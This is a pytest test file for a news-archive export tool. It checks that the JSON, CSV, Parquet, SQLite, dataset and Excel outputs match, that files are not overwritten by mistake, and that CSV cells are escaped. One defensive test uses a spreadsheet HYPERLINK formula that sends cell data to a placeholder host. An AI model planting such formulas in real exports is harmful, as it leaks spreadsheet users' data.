"""`newsarchive export`: every format holds the same records, spreadsheets get no formula, and nothing half is left."""

from __future__ import annotations

import builtins
import csv
import gzip
import io
import json
import sqlite3
import subprocess
import sys
from collections.abc import Iterator
from contextlib import closing
from datetime import UTC
from pathlib import Path
from typing import Any

import pyarrow.parquet as parquet
import pytest
from click.testing import CliRunner, Result
from hypothesis import given
from hypothesis import strategies as st
from search_pieces import store

from newsarchive import load
from newsarchive.article import Record, to_json
from newsarchive.cli import main
from newsarchive.dataset.exporting import UNSAFE, csv_cell, export
from newsarchive.dataset.tables import TABLE_COLUMNS, arrow_schema

SAMPLE = Path(__file__).resolve().parent.parent / "data" / "sample"


def run(*arguments: str) -> Result:
    return CliRunner().invoke(main, ["export", str(SAMPLE), *arguments])


def test_json_lines_are_the_records_as_stored(tmp_path: Path) -> None:
    out = tmp_path / "out.jsonl"
    assert run("-o", str(out)).stderr == f"{out}: 24 articles\n"
    assert out.read_bytes() == b"".join(to_json(record) + b"\n" for record in load(SAMPLE))
    assert list(load(out)) == list(load(SAMPLE))


def test_compressed_json_lines_are_reproducible(tmp_path: Path) -> None:
    first, two = tmp_path / "1.jsonl.gz", tmp_path / "2.jsonl.gz"
    for out in (first, two):
        assert run("-o", str(out), "--revisions", "all").stderr == f"{out}: 25 revisions\n"
    assert first.read_bytes() == two.read_bytes()
    assert len(gzip.decompress(first.read_bytes()).splitlines()) == 25


def test_columns_are_in_the_requested_order() -> None:
    lines = run("--columns", "title, id,authors").stdout.splitlines()
    assert list(json.loads(lines[0])) == ["title", "id", "authors"]
    assert run("--columns", "title,id", "--format", "csv").stdout.splitlines()[0] == "title,id"


def test_csv_has_every_value(tmp_path: Path) -> None:
    rows = list(csv.DictReader(io.StringIO(run("--format", "csv").stdout_bytes.decode(), newline="")))
    records = list(load(SAMPLE))
    assert [row["body"] for row in rows] == [record.body for record in records]
    assert [json.loads(row["authors"]) for row in rows] == [record.authors for record in records]
    first = next(record for record in records if record.published_at)
    assert rows[records.index(first)]["published_at"] == first.published_at.isoformat()  # type: ignore[union-attr]
    assert {row["paywalled"] for row in rows} <= {"", "true", "false"}
    assert list(rows[0]) == list(TABLE_COLUMNS)


def test_a_spreadsheet_gets_no_formula(tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://x.example?"&A1,"xem")'
    folder = store(tmp_path / "archive", [{"title": evil, "section": "@SUM(1)", "byline": "'ngoặc", "body": "-1+2"}])
    command_line = ["export", str(folder), "--format", "csv", "--columns", "title,section,byline,body,lead"]
    (row,) = list(csv.reader(CliRunner().invoke(main, command_line).stdout.splitlines()))[1:]
    assert row == [f"'{evil}", "'@SUM(1)", "''ngoặc", "'-1+2", ""]
    (row,) = list(csv.reader(CliRunner().invoke(main, [*command_line, "--csv-raw"]).stdout.splitlines()))[1:]
    assert row == [evil, "@SUM(1)", "'ngoặc", "-1+2", ""]


def test_an_offset_stays_as_it_is_in_csv(tmp_path: Path) -> None:
    folder = store(tmp_path / "archive", [{"title": "+07:00", "published": "2017-09-01T08:00:00+07:00"}])
    command_line = ["export", str(folder), "--format", "csv", "--columns", "title,utc_offset"]
    assert CliRunner().invoke(main, command_line).stdout.splitlines()[1] == "'+07:00,+07:00"


@pytest.mark.parametrize("text", ["\n=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)"])
def test_full_width_characters_and_line_breaks_begin_no_formula(text: str) -> None:
    assert csv_cell(text) == f"'{text}"


@given(st.text())
def test_a_safe_cell_can_be_reversed(text: str) -> None:
    cell = csv_cell(text)
    assert not cell.startswith(tuple(sign for sign in UNSAFE if sign != "'"))
    assert (cell[1:] if cell.startswith("'") else cell) == text


def test_parquet_has_the_schema_and_the_values(tmp_path: Path) -> None:
    out = tmp_path / "out.parquet"
    run("-o", str(out), "--site", "tinmau")
    table = parquet.read_table(out)
    records = list(load(SAMPLE, sites="tinmau"))
    assert table.schema == arrow_schema()
    assert table["authors"].to_pylist() == [record.authors for record in records]
    times = [record.published_at and record.published_at.astimezone(UTC) for record in records]
    assert table["published_at"].to_pylist() == times


def test_an_empty_selection_is_a_table_without_rows(tmp_path: Path) -> None:
    out = tmp_path / "out.parquet"
    assert run("-o", str(out), "--since", "2030", "--columns", "id,published_at").stderr == f"{out}: 0 articles\n"
    assert parquet.read_table(out).num_rows == 0
    assert parquet.read_schema(out) == arrow_schema(["id", "published_at"])


def test_sqlite_can_be_queried(tmp_path: Path) -> None:
    out = tmp_path / "out.sqlite"
    run("-o", str(out))
    question = (
        "SELECT name.value, count(*) FROM articles, json_each(authors) AS name GROUP BY 1 ORDER BY 2 DESC, 1 LIMIT 2"
    )
    with closing(sqlite3.connect(out)) as base:
        assert base.execute(question).fetchall() == [("Trúc Mai", 5), ("Hạ Vy", 4)]
        assert base.execute("SELECT typeof(revision), typeof(section) FROM articles LIMIT 1").fetchone() == (
            "integer",
            "text",
        )


def test_hugging_face_datasets_loads_the_folder(tmp_path: Path) -> None:
    out = tmp_path / "out"
    assert run("-o", str(out), "--format", "hf").exit_code == 0
    datasets = pytest.importorskip("datasets")
    data = datasets.load_from_disk(str(out))
    assert data["id"][:] == [record.id for record in load(SAMPLE)]
    assert data.features["authors"].feature.dtype == "string"
    assert not list(tmp_path.glob(".*"))


def test_an_empty_selection_is_a_dataset_without_rows(tmp_path: Path) -> None:
    out = tmp_path / "out"
    assert run("-o", str(out), "--format", "hf", "--since", "2030").stderr == f"{out}: 0 articles\n"
    data = pytest.importorskip("datasets").load_from_disk(str(out))
    assert (data.num_rows, data.features["authors"].feature.dtype) == (0, "string")


@pytest.mark.parametrize("format", ["jsonl", "csv", "parquet", "sqlite", "hf"])
def test_force_replaces_no_folder_except_a_dataset(tmp_path: Path, format: str) -> None:
    folder = tmp_path / "data"
    folder.mkdir()
    (folder / "mine").write_text("mine")
    done = run("-o", str(folder), "--format", format, "--force")
    assert (done.exit_code, (folder / "mine").read_text()) == (1, "mine")
    assert done.stderr.startswith(f"Error: {folder}: is a folder, not an exported dataset")


def test_force_replaces_a_dataset(tmp_path: Path) -> None:
    out = tmp_path / "out"
    for _ in range(2):
        assert run("-o", str(out), "--format", "hf", "--force", "--columns", "id").exit_code == 0


def test_an_existing_file_is_not_replaced_without_force(tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    out.write_text("mine")
    done = run("-o", str(out))
    assert (done.exit_code, done.stderr.count("\n"), out.read_text()) == (1, 1, "mine")
    assert f"{out}: exists already" in done.stderr
    assert run("-o", str(out), "--force").exit_code == 0
    assert out.read_text().startswith("schema,id,")


def test_an_interrupted_export_never_gets_the_final_name(tmp_path: Path) -> None:
    def breaking() -> Iterator[Record]:
        yield from load(SAMPLE)
        raise OSError("no more")

    for format in ("jsonl", "csv", "parquet", "sqlite"):
        with pytest.raises(OSError, match="no more"):
            export(breaking(), tmp_path / "out", format)  # type: ignore[arg-type]
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        (["--columns", "colour"], "'colour' is not a column"),
        (["-o", "out.docx"], "out.docx: unknown file extension"),
        (["-o", "out.parquet.gz"], "unknown file extension"),
        (["--format", "parquet"], "--format parquet needs an output file; name it with -o"),
        (["-o", "/khong/co/out.csv"], "/khong/co: no such folder; create it first"),
    ],
)
def test_a_path_that_cannot_be_written_is_named(arguments: list[str], message: str) -> None:
    done = run(*arguments)
    assert done.exit_code in (1, 2)
    assert message in done.stderr


def test_a_missing_library_is_named_with_the_remedy(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    real = builtins.__import__

    def without(name: str, *rest: Any, **kwargs: Any) -> Any:
        if name == "datasets":
            raise ImportError(name)
        return real(name, *rest, **kwargs)

    monkeypatch.setattr(builtins, "__import__", without)
    done = run("-o", str(tmp_path / "out"), "--format", "hf")
    assert (done.exit_code, 'pip install ".[huggingface]"' in done.stderr) == (1, True)
    assert list(tmp_path.iterdir()) == []


def test_a_closed_pipe_ends_the_export_quietly(tmp_path: Path) -> None:
    store(tmp_path, [{"title": f"Tin {number}", "body": "Nước lên. " * 30} for number in range(300)])
    for form in ("jsonl", "csv"):
        command = (
            f"{sys.executable} -m newsarchive export {tmp_path} --format {form} | head -1; exit ${{PIPESTATUS[0]}}"
        )
        done = subprocess.run(["bash", "-c", command], capture_output=True, text=True, check=False)
        assert (done.returncode, done.stderr) == (0, "")
        assert done.stdout.count("\n") == 1


def test_a_workbook_has_text_cells_and_local_times(tmp_path: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    folder = store(
        tmp_path / "archive",
        [
            {
                "title": "=1+1",
                "body": "x" * 40_000,
                "authors": ["An", "Bình"],
                "published": "2017-09-01T00:30:00+07:00",
            },
            {"title": "https://a.example", "published": "1899-01-01T00:00:00+07:00"},
            {"title": "Không ngày", "published": None},
        ],
    )
    out = tmp_path / "a.xlsx"
    done = CliRunner().invoke(main, ["export", str(folder), "-o", str(out)])
    assert done.exit_code == 0
    assert "1 text shortened to 32,767 characters" in done.stderr
    head, *rows = openpyxl.load_workbook(out).active.iter_rows()
    names = [cell.value for cell in head]
    assert names[:5] == ["id", "site", "published_date", "published_at", "title"]
    by_title = {row[4].value: dict(zip(names, row, strict=True)) for row in rows}
    first = by_title["=1+1"]
    assert first["title"].data_type == "s"
    assert first["published_at"].value.isoformat() == "2017-09-01T00:30:00"
    assert first["published_date"].value.date().isoformat() == "2017-09-01"
    assert first["authors"].value == "An; Bình"
    assert len(first["body"].value) == 32_767
    assert first["body"].value.endswith(" […]")
    assert by_title["https://a.example"]["published_date"].value == "1899-01-01"
    assert by_title["https://a.example"]["title"].hyperlink is None
    assert by_title["Không ngày"]["published_at"].value is None


def test_csv_for_excel_begins_with_a_byte_order_mark(tmp_path: Path) -> None:
    out = tmp_path / "a.csv"
    assert CliRunner().invoke(main, ["export", str(SAMPLE), "-o", str(out), "--bom"]).exit_code == 0
    assert out.read_bytes().startswith(b"\xef\xbb\xbfschema,id")
    assert run("--format", "csv", "--bom").stdout_bytes.startswith(b"\xef\xbb\xbfschema")
    assert run("--format", "csv").stdout_bytes.startswith(b"schema")
